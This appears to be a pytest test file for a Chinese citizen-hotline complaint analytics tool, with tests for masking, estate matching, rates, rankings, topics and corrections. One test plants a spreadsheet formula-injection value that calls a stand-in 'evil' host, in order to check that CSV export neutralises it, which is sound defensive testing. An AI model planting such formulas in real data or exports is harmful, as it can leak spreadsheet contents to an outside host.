"""`huiyin hotline`: a file in, numbers out, without Django; what goes wrong is told in a sentence."""

from __future__ import annotations

import csv
import hmac
import json
import os
import shutil
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from huiyin.analytics.asking import keep_estates
from huiyin.analytics.estates import Estate
from huiyin.analytics.store import Store
from huiyin.analytics.topics import LEAST, MONTHS_READ
from huiyin.config.cli import main
from tests.analytics.given_complaints import NOW, a_file, complaints, taken_in

ESTATES = [
    ("code", "name", "aliases", "area_code", "households", "company"),
    ("E1", "清河里一区", "清河里1区", "110106001001", "1000", "甲物业"),
    ("E2", "望春园", "", "110106002001", "500", "乙物业"),
]
COMPLAINTS = [
    ("工单编号", "受理时间", "诉求内容", "是否解决", "联系电话"),
    (
        "W1",
        "2025-01-05",
        "清河里1区3号楼的电梯坏了三天，物业没有人来修，请回电13800000001",
        "否",
        "13800000001",
    ),
    ("W2", "2025-01-06", "望春园地下车库的灯不亮，物业不管", "是", "13800000002"),
    ("W3", "2025-02-06", "公交车等了四十分钟才来一辆，希望增加车次", "未评价", ""),
    ("W4", "前天", "清河里一区垃圾没有人清运", "", ""),
]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hotline")
    for name, rows in (("estates.csv", ESTATES), ("complaints.csv", COMPLAINTS)):
        with (folder / name).open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(rows)
    arguments = [
        "hotline",
        "enrich",
        str(folder / "complaints.csv"),
        "--estates",
        str(folder / "estates.csv"),
    ]
    environment = {**os.environ, "HUIYIN_CALLER_KEY": "test", "HUIYIN_KERNELS": "python"}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "huiyin.config.cli",
            *arguments,
            "--out",
            str(folder / "store"),
            "--format",
            "json",
        ],
        capture_output=True,
        text=True,
        check=False,
        env=environment,
    )
    assert done.returncode == 0, done.stderr
    (told,) = json.loads(done.stdout)
    assert (told["read"], told["stored"], told["rejected"], told["attributed"]) == (4, 3, 1, 2)
    assert "读入 4 = 存入 3 + 退回 1" in done.stderr
    return folder / "store"


def asked(capsys: pytest.CaptureFixture[str], *arguments: object) -> list[dict[str, object]]:
    assert main(["hotline", *map(str, arguments), "--format", "json"]) == 0
    rows: list[dict[str, object]] = json.loads(capsys.readouterr().out)
    return rows


def test_what_is_written_is_masked_attributed_and_told_apart(store: Path) -> None:
    from pyarrow import parquet

    rows = {row["number"]: row for row in parquet.read_table(store).to_pylist()}
    assert rows["W1"]["text"].endswith("请回电〔手机号〕")
    assert (rows["W1"]["estate_code"], rows["W1"]["estate_match"]) == ("E1", "清河里1区")
    assert rows["W1"]["property_related"]
    assert rows["W1"]["category"] == "电梯"
    assert rows["W3"]["estate_code"] is None
    assert not rows["W3"]["property_related"]
    assert b"13800000001" not in b"".join(path.read_bytes() for path in store.rglob("*") if path.is_file())


def test_rates_say_numerator_denominator_and_formula(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = {row["measure"]: row for row in asked(capsys, "rates", store, "--period", "2025-01")}
    solved = rows["solution_rate"]
    assert (solved["numerator"], solved["denominator"], solved["value"]) == (1, 2, 0.5)
    assert "有效回访" in str(solved["formula"])


@pytest.mark.parametrize(
    ("by", "said"),
    [
        ("community", "期内受理的诉求件数；没有归到小区的诉求不计入社区"),
        ("street", "期内受理的诉求件数；没有归到小区的诉求按文件里的区划代码计入街镇"),
        ("estate", "期内受理的诉求件数"),
    ],
)
def test_the_formula_says_where_complaints_of_no_estate_count(
    store: Path, capsys: pytest.CaptureFixture[str], by: str, said: str
) -> None:
    rates = asked(capsys, "rates", store, "--by", by)
    ranks = asked(capsys, "rank", store, "--by", by, "--period", "2025", "--measure", "complaints")
    assert {row["formula"] for row in rates if row["measure"] == "complaints"} == {said}
    assert {row["formula"] for row in ranks} == {said}


def test_a_ranking_names_the_estates(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = asked(
        capsys, "rank", store, "--by", "estate", "--period", "2025", "--top", "1", "--per-households"
    )
    assert [(row["place"], row["name"]) for row in rows] == [(1, "望春园")]
    (first,) = rows
    assert first["measure"] == "property_complaints_per_thousand_households_of_a_list"
    assert "户数和企业以最近一次带入的小区名单为准" in str(first["formula"])
    assert (first["numerator"], first["denominator"], first["excluded"]) == (1, 500, 0)


def two_months(folder: Path, *, first_day: int) -> Path:
    """望春园 has most in May, 清河里 in June; May begins on `first_day`."""
    days = {"05": (first_day, 12, 29), "06": (1, 15, 30)}
    most = {"05": "望春园", "06": "清河里"}
    rows = [
        (f"{month}{at}", f"2025-{month}-{day:02d} 08:00:00", f"{name}物业不修电梯", "", "")
        for month, its in days.items()
        for at, (day, name) in enumerate(
            zip(its, [most[month], most[month], other_of(most[month])], strict=True)
        )
    ]
    taken_in(folder / "store", a_file(folder / "a.csv", *rows))
    with Store.open(folder / "store") as writing:
        keep_estates(
            writing, [Estate("E1", "清河里", households=500), Estate("E2", "望春园", households=500)]
        )
    return folder / "store"


def other_of(name: str) -> str:
    return {"清河里": "望春园", "望春园": "清河里"}[name]


@pytest.mark.parametrize(
    ("period", "first_day", "moved", "before", "words"),
    [
        ("2025-06", 2, {"清河里": 1, "望春园": -1}, "whole", ""),
        ("2025-06", 9, {"清河里": None, "望春园": None}, "incomplete", "上期不完整，不列升降。"),
        ("2025-05", 2, {"清河里": None, "望春园": None}, "nothing", "上期没有诉求，不列升降。"),
        ("2025-Q2", 2, {"清河里": None, "望春园": None}, "nothing", "上期没有诉求，不列升降。"),
    ],
)
def test_a_ranking_moves_against_a_whole_period_only(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    *,
    period: str,
    first_day: int,
    moved: dict[str, int | None],
    before: str,
    words: str,
) -> None:
    arguments = ["hotline", "rank", str(two_months(tmp_path, first_day=first_day)), "--period", period]
    assert main([*arguments, "--format", "json"]) == 0
    told = capsys.readouterr()
    rows = json.loads(told.out)
    assert {row["name"]: row["moved"] for row in rows} == moved
    assert {row["before"] for row in rows} == {before}
    assert told.err.strip() == words


def test_topics_are_named_by_what_callers_share_the_hottest_first(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    matters = {"清河里": "物业不修电梯，老人下不了楼", "望春园": "物业停车乱收费，不给发票"}
    rows = [
        (f"{estate}{at}", f"2025-05-{at:02d} 08:00:00", f"{estate}{matter}", "否", f"1390000{at:04d}")
        for estate, matter in matters.items()
        for at in range(1, 4 if estate == "望春园" else 8)
    ]
    taken_in(tmp_path / "store", a_file(tmp_path / "a.csv", *rows))
    with Store.open(tmp_path / "store") as opened:
        keep_estates(opened, [Estate("E1", "清河里"), Estate("E2", "望春园")])
    told = asked(capsys, "topics", tmp_path / "store")
    assert [(row["name"], row["complaints"], row["callers"]) for row in told] == [
        ("清河里", 7, 7),
        ("望春园", 3, 3),
    ]
    assert "电梯" in str(told[0]["title"])
    assert [row["estate"] for row in asked(capsys, "topics", tmp_path / "store", "--estate", "E2")] == ["E2"]
    assert len(asked(capsys, "topics", tmp_path / "store", "--top", 1)) == 1


def test_topics_of_an_estate_need_three_complaints(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert asked(capsys, "topics", store) == []
    assert main(["hotline", "topics", str(store), "--estate", "E9"]) == 2
    assert "小区名单里没有 E9" in capsys.readouterr().err


def test_a_table_for_people_keeps_its_columns_apart(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["hotline", "rates", str(store), "--by", "category"]) == 0
    head, *lines = capsys.readouterr().out.splitlines()
    assert head.split()[:3] == ["category", "measure", "name"]
    assert lines


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (["rank", "{store}", "--period", "去年"], "时期写作"),
        (["rank", "{store}", "--period", "2025", "--top", "0"], "--top 至少是 1"),
        (["rank", "{store}", "--period", "2025", "--measure", "solution_rate", "--per-households"], "每千户"),
        (["rank", "{store}", "--period", "2019"], "里没有这个时期的诉求，有的是 20"),
        (["rates", "{store}", "--period", "2019"], "里没有这个时期的诉求，有的是 20"),
        (["rates", "/nowhere"], "没有用 huiyin hotline enrich 存入的诉求"),
        (["undo", "{store}", "nothing"], "没有编号为 nothing 的导入"),
    ],
)
def test_bad_use_is_told_in_a_sentence(
    store: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], sentence: str
) -> None:
    assert main(["hotline", *(word.format(store=store) for word in arguments)]) == 2
    assert sentence in capsys.readouterr().err


@pytest.mark.parametrize("command", ["rates", "remask", "imports"])
def test_a_store_that_lost_a_month_is_told_of_in_a_sentence(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    damaged = Path(shutil.copytree(store, tmp_path / "store"))
    next(damaged.glob("month=*/complaints.parquet")).unlink()
    assert main(["hotline", command, str(damaged)]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert "缺失或已损坏" in said.err
    assert "从备份恢复" in said.err


def test_who_has_read_enough_is_not_told_of_an_error(store: Path) -> None:
    told = subprocess.run(
        f"{sys.executable} -m huiyin.config.cli hotline rates {store} --format csv | head -c 1",
        shell=True,
        check=True,
        capture_output=True,
        text=True,
    )
    assert told.stderr == ""


def test_what_there_is_none_of_is_said(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["hotline", "topics", str(store)]) == 0
    nothing = "没有热点：最近 6 个月里，同一小区至少 3 件相近的物业诉求才算一个。\n"
    assert capsys.readouterr() == ("", nothing)
    assert (MONTHS_READ, LEAST) == (6, 3), "as the sentence says"
    assert main(["hotline", "erase", str(store), "nobody's"]) == 0
    assert "有 1 个编号库里没有" in capsys.readouterr().err


def test_masking_anew_says_how_many_complaints_it_changed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HUIYIN_KERNELS", "python")
    told = ("W1", "2025-01-05", "清河里的电梯坏了，我的微信号：wxid_8812ab", "", "")
    rejected = ("", "2025-01-06", "电梯停了", "", "")
    file = a_file(tmp_path / "a.csv", told, ("W2", "2025-01-06", "路灯不亮", "", ""), rejected)
    taken_in(tmp_path / "store", file)
    again = a_file(tmp_path / "b.csv", told)
    taken_in(tmp_path / "store", again, now=NOW + timedelta(days=1))
    (errors,) = (tmp_path / "store" / "_errors").glob("*.csv")
    written = errors.read_bytes()
    errors.write_bytes(written.replace("电梯停了".encode(), "微信号：wxid_8812ab".encode()))
    (errors.parent / "old.csv").write_bytes("行,工单编号\n1,微信".encode("gbk"))
    for count in (1, 0):
        assert main(["hotline", "remask", str(tmp_path / "store"), "--format", "json"]) == 0
        said = capsys.readouterr()
        assert json.loads(said.out) == [{"changed": count, "kept_to_undo": count, "rejected": count}]
        assert "退回行 old.csv 没有重新遮盖" in said.err
        assert "正在读 2025-01" in said.err
        assert ("正在写 2025-01" in said.err) == bool(count)
    assert complaints(tmp_path / "store")["W1"]["text"] == "清河里的电梯坏了，我的微信号：〔账号〕"


def test_a_missing_file_and_a_wrong_column_are_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    estates = tmp_path / "estates.csv"
    estates.write_text("code,name\nE1,清河里\n", encoding="utf-8")
    where = ["--estates", str(estates), "--out", str(tmp_path / "store")]
    assert main(["hotline", "enrich", str(tmp_path / "none.csv"), *where]) == 2
    assert "找不到文件" in capsys.readouterr().err
    assert main(["hotline", "enrich", str(estates), *where, "--column", "text"]) == 2
    assert "--column 的写法" in capsys.readouterr().err
    assert main(["hotline", "enrich", str(estates), *where]) == 2
    assert "找不到工单编号、诉求内容这一列" in capsys.readouterr().err


def test_words_of_a_caller_are_not_run_by_a_spreadsheet(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = '=HYPERLINK("http://evil/"&A1)清河里物业不修电梯'
    rows = [(f"W{at}", f"2025-05-0{at} 08:00:00", text, "否", f"1390000000{at}") for at in range(1, 5)]
    taken_in(tmp_path / "store", a_file(tmp_path / "a.csv", *rows))
    with Store.open(tmp_path / "store") as kept:
        keep_estates(kept, [Estate("E1", "清河里")])
    assert main(["hotline", "topics", str(tmp_path / "store"), "--format", "csv"]) == 0
    (told,) = csv.DictReader(capsys.readouterr().out.splitlines())
    assert told["example"].startswith("'=HYPERLINK")
    assert told["complaints"] == "4"


def test_callers_are_not_hashed_with_the_key_of_another_folder(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Started from elsewhere, nobody would be known again."""
    kept, more = Path(shutil.copytree(store, tmp_path / "store")), a_file(tmp_path / "a.csv", COMPLAINTS[2])
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    monkeypatch.setenv("HUIYIN_KERNELS", "python")
    for name in ("HUIYIN_VAR", "HUIYIN_CALLER_KEY"):
        monkeypatch.delenv(name, raising=False)
    command = [
        "hotline",
        "enrich",
        str(more),
        "--estates",
        str(store.parent / "estates.csv"),
        "--out",
        str(kept),
    ]
    assert main(command) == 2
    told = capsys.readouterr().err
    assert "已生成换算来电人的密钥" in told
    assert "另一把密钥" in told
    assert len(Store(kept).imports) == 1
    assert main(["hotline", "new-key", str(kept)]) == 0
    assert main(command) == 0
    assert len(Store(kept).imports) == 2


def test_what_a_killed_run_hashed_with_the_key_of_before_is_hashed_anew(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept, more = Path(shutil.copytree(store, tmp_path / "store")), tmp_path / "more.csv"
    with more.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([COMPLAINTS[0], ("W9", *COMPLAINTS[1][1:])])
    estates = store.parent / "estates.csv"
    command = ["hotline", "enrich", str(more), "--estates", str(estates), "--out", str(kept)]
    monkeypatch.setenv("HUIYIN_KERNELS", "python")
    monkeypatch.setenv("HUIYIN_CALLER_KEY", "test")
    with monkeypatch.context() as killed:
        killed.setattr("huiyin.analytics.pipeline._Run.take_in", interrupted)
        assert main(command) == 130
    monkeypatch.setenv("HUIYIN_CALLER_KEY", "another")
    assert main(["hotline", "new-key", str(kept)]) == 0
    assert main(command) == 0
    expected = int.from_bytes(
        hmac.digest(b"another", COMPLAINTS[1][4].encode(), "sha256")[:8], "little", signed=True
    )
    assert complaints(kept)["W9"]["caller_key"] == expected != complaints(kept)["W1"]["caller_key"]


def interrupted(*_: object) -> None:
    raise KeyboardInterrupt


def test_no_settings_and_no_django_are_loaded(store: Path) -> None:
    code = (
        "import sys; from huiyin.config.cli import main; main(['hotline', 'imports', sys.argv[1]]); "
        "print('django' in sys.modules)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(store)], capture_output=True, text=True, check=True
    )
    assert done.stdout.splitlines()[-1] == "False"


CORRECTIONS = (
    ("工单编号", "小区编码", "物业类", "类别"),
    ("W1", "E2", "", "lifts"),
    ("W2", "无", "否", ""),
    ("W3", "", "", "别的"),
    ("W3", "E9", "", ""),
    ("W4", "", "", "电梯"),
    ("W3", "", "", ""),
    ("", "E1", "", ""),
    ("W1", "E1", "", ""),
)


@pytest.fixture
def corrected(store: Path, tmp_path: Path) -> Path:
    """A copy of the store, so that each test corrects its own."""
    return Path(shutil.copytree(store, tmp_path / "corrected"))


def test_a_file_of_corrections_counts_and_its_bad_rows_go_to_a_file(
    corrected: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "更正.csv"
    with file.open("w", encoding="utf-8", newline="") as target:
        csv.writer(target).writerows(CORRECTIONS)
    assert main(["hotline", "correct", str(corrected), "--corrections", str(file), "--format", "json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out) == [{"read": 8, "corrected": 2, "rejected": 6}]
    assert "读入 8 = 更正 2 + 退回 6" in err
    (errors,) = (corrected / "_errors").glob("corrections-*.csv")
    assert errors.stat().st_mode & 0o777 == 0o600
    with errors.open(encoding="utf-8-sig", newline="") as told:
        assert list(csv.reader(told))[1:] == [
            ["4", "W3", "没有“别的”这个类别"],
            ["5", "W3", "工单编号与第 4 行重复"],
            ["6", "W4", "库里没有这件诉求，或内容已删除"],
            ["7", "W3", "工单编号与第 4 行重复"],
            ["8", "", "缺少工单编号"],
            ["9", "W1", "工单编号与第 2 行重复"],
        ]
    rows = complaints(corrected)
    assert (rows["W1"]["estate_code"], rows["W1"]["category"]) == ("E2", "电梯")
    assert (rows["W2"]["estate_code"], rows["W2"]["property_related"]) == (None, False)


def test_one_complaint_is_corrected_and_left_to_the_machine_again(corrected: Path) -> None:
    before = complaints(corrected)["W1"]
    command = ["hotline", "correct", str(corrected), "W1"]
    assert main([*command, "--estate", "E2", "--property", "no"]) == 0
    row = complaints(corrected)["W1"]
    assert (row["estate_code"], row["property_related"]) == ("E2", False)
    assert main([*command, "--estate", "-"]) == 0
    row = complaints(corrected)["W1"]
    assert (row["estate_code"], row["property_related"]) == ("E1", False)
    assert main([*command, "--property", "-"]) == 0
    assert complaints(corrected)["W1"] == before


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        ([], "请写一个工单编号"),
        (["W1"], "没有写要更正什么"),
        (["W1", "--estate", "E9"], "小区名单里没有“E9”"),
        (["W1", "--property", "也许"], "物业类应写“是”或“否”"),
        (["W9", "--category", "lifts"], "没有更正任何诉求"),
        (["--corrections", "没有.csv"], "找不到文件"),
    ],
)
def test_what_cannot_be_corrected_is_told_in_a_sentence(
    corrected: Path, arguments: list[str], sentence: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["hotline", "correct", str(corrected), *arguments]) == 2
    assert sentence in capsys.readouterr().err


def test_corrected_complaints_are_rows_for_the_next_training(corrected: Path, tmp_path: Path) -> None:
    main(["hotline", "correct", str(corrected), "W2", "--category", "公共设施维修与改造"])
    file = tmp_path / "labels.jsonl"
    assert main(["hotline", "labels", str(corrected), "--out", str(file)]) == 0
    (row,) = map(json.loads, file.read_text(encoding="utf-8").splitlines())
    assert row == {
        "text": "望春园地下车库的灯不亮，物业不管",
        "property_related": None,
        "category": "公共设施维修与改造",
    }


def test_estates_of_another_list_keep_their_names_and_a_refused_file_brings_no_list(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("HUIYIN_KERNELS", "python")
    monkeypatch.setenv("HUIYIN_CALLER_KEY", "test")
    kept = Path(shutil.copytree(store, tmp_path / "store"))
    listed = tmp_path / "list.csv"
    listed.write_text("code,name\nE2,望春园小区\nE3,明珠花园\n", encoding="utf-8")

    def enriched(*lines: str) -> int:
        path = tmp_path / "more.csv"
        path.write_text("\n".join(lines), encoding="utf-8")
        return main(["hotline", "enrich", str(path), "--estates", str(listed), "--out", str(kept)])

    def named() -> dict[object, object]:
        rows = asked(capsys, "rank", kept, "--by", "estate", "--period", "2025")
        return {row["name"]: row["numerator"] for row in rows if row["place"]}

    assert enriched("甲,乙", "1,2") == 2
    capsys.readouterr()
    assert named() == {"清河里一区": 1, "望春园": 1}
    assert enriched("工单编号,受理时间,诉求内容", "W8,2025-03-01,明珠花园的物业不修电梯") == 0
    capsys.readouterr()
    assert named() == {"清河里一区": 1, "望春园小区": 1, "明珠花园": 1}


def test_what_has_no_place_is_counted_and_no_list_has_less_than_one_line(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    where = ["hotline", "rank", str(store), "--by", "estate", "--period", "2025"]
    assert main([*where, "--measure", "solution_rate"]) == 0
    assert "另有 2 个样本太小" in capsys.readouterr().err
    for command in (where, ["hotline", "topics", str(store)]):
        assert main([*command, "--top", "-1"]) == 2
        assert "--top 至少是 1" in capsys.readouterr().err
